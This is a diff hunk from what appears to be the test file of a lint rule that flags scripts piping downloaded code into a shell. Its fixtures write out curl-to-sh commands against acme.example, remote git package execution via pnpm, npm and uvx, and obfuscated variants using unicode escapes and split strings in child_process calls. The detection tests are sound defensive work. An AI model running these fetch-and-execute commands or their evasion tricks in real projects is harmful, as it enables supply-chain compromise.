@@ -104,7 +104,7 @@ await ruleTester(rule, {
     bad(script('pnpm dlx git+https://acme.example/tool.git'), 'pipe'),
     bad(script('npm exec --package=git+ssh://git@acme.example/tool.git -- tool'), 'pipe'),
     bad(server('uvx', '--from', 'git+https://acme.example/tool.git', 'tool'), 'pipe'),
-    bad({ code: '{"scripts":{"a":"npm run b","b":"curl -s https://acme.example/i.sh | sh"}}', filename: 'package.json' }, 'pipe', 'pipe'),
+    bad({ code: '{"scripts":{"a":"npm run b","b":"curl -s https://acme.example/i.sh | sh"}}', filename: 'package.json' }, 'pipe'),
     bad({ code: '{"scripts":{"a":"cu\\u0072l -s https://acme.example/i.sh | s\\u0068"}}', filename: 'package.json' }, 'pipe'),
     bad(js("cp.spawn('sh', ['-c', 'curl -s https://acme.example/i.sh | sh']);"), 'pipe'),
     bad(js("cp['exec' + 'Sync'](['curl -s', 'https://acme.example/i.sh', '| sh'].join(' '));"), 'pipe'),
